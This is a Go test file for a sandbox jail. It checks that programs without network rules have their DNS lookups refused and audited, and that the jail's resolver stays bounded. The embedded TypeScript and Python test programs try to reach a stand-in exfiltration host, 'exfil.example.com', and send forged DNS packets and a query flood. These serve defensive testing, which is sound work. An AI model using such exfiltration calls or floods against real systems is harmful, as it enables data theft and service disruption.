package sandbox

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/cruciblehq/crucible/audit"
	"github.com/cruciblehq/crucible/config"
	"github.com/cruciblehq/crucible/internal/testenv"
	"github.com/cruciblehq/crucible/violation"
	"golang.org/x/sys/unix"
)

// Attacks on a jail without network rules. A program that tries to reach a
// host is refused, and says why: every lookup is a violation whose reason
// tells the model that the network is off and how the operator turns it on
// (before, a lookup failed with "connection refused" and nothing was
// recorded). The jail's resolver only answers: queries of every shape,
// forged responses and floods leave through nothing and are bounded.
//
// TypeScript's fetch on each engine, one-shot: Deno's is its own, in the
// program's process; the embedded engine's is Go's.
func TestAttackOfflineLookups(t *testing.T) {
	testenv.NeedRoot(t, "serves a resolver in the jail's network namespace")
	cfg := config.Default()
	const ts = `try { await fetch("https://exfil.example.com/?d=1") } catch (e) { console.log("refused:", e.message) }`
	for _, tc := range []struct{ name, lang, engine, src string }{
		{"ts", "ts", config.EngineEmbedded, ts},
		{"ts on deno", "ts", config.EngineDeno, ts},
		{"py", "py", "", `import socket
try:
    socket.getaddrinfo("exfil.example.com", 443)
except OSError as e:
    print("refused:", e)
# A forged response, garbage, a query of another class and a flood: each
# gets an answer or is dropped, and none of them reaches anywhere.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.sendto(b"\x12\x34\x81\x80" + b"\x00" * 8, ("127.0.0.1", 53))
s.sendto(b"\xff", ("127.0.0.1", 53))
for i in range(300):
    q = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([5]) + ("n%04d" % i).encode() + b"\x07example\x03com\x00\x00\x01\x00\x01"
    s.sendto(q, ("127.0.0.1", 53))
got = 0
try:
    while got < 300:
        s.recvfrom(512)
        got += 1
except socket.timeout:
    pass
print("answers", got)
`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.lang == "py" && unix.Access(cfg.Runtimes.Python, unix.X_OK) != nil {
				testenv.Missing(t, "needs python3 at runtimes.python (apt-get install python3)")
			}
			cfg := *cfg
			if cfg.Runtimes.Engine = tc.engine; tc.engine == config.EngineDeno {
				needDeno(t, &cfg)
			}
			var trail testenv.Buffer
			w := audit.New(&trail)
			res := runOneShot(t, &cfg, tc.lang, tc.src, Options{Audit: w})
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if res.ExitCode != 0 || !strings.Contains(res.Stdout, "refused:") {
				t.Fatalf("exit %d, stdout %q, stderr %q", res.ExitCode, res.Stdout, res.Stderr)
			}
			if tc.lang == "py" && !strings.Contains(res.Stdout, "answers ") || strings.Contains(res.Stdout, "answers 0") {
				t.Errorf("the flood's queries were not answered: %q", res.Stdout)
			}
			var found *violation.Violation
			for i, v := range res.Violations {
				if v.Host == "exfil.example.com" {
					found = &res.Violations[i]
				}
				if v.Kind != violation.DNS && v.Kind != violation.Limit {
					t.Errorf("violation %+v: want only refused lookups", v)
				}
			}
			if found == nil || found.Kind != violation.DNS || !strings.Contains(found.Reason, "network is off") || !strings.Contains(found.Reason, "network.allow") {
				t.Fatalf("violations %+v: want the lookup of exfil.example.com refused as the network being off, naming network.allow", res.Violations)
			}
			if len(res.Violations) > maxNetViolations+2 {
				t.Errorf("%d violations: the list is not bounded", len(res.Violations))
			}
			if res.Network != nil {
				t.Errorf("network use %+v for a jail without a network", res.Network)
			}
			var exec string
			denied := false
			for _, line := range strings.Split(strings.TrimSpace(trail.String()), "\n") {
				var ev struct{ Event, Exec, Name, Verdict, Reason string }
				if err := json.Unmarshal([]byte(line), &ev); err != nil {
					t.Fatalf("audit line %q: %v", line, err)
				}
				switch {
				case ev.Event == "execution":
					exec = ev.Exec
				case ev.Event == "network" && ev.Exec == "":
					t.Errorf("a network line without its execution: %s", line)
				case ev.Event == "network" && ev.Name == "exfil.example.com" && ev.Verdict == "deny" && strings.Contains(ev.Reason, "network is off"):
					denied = true
				}
			}
			if !denied || exec == "" || !strings.Contains(trail.String(), `"exec":"`+exec+`","type":"dns"`) {
				t.Errorf("the audit trail has no denied lookup of the execution:\n%s", trail.String())
			}
		})
	}
}
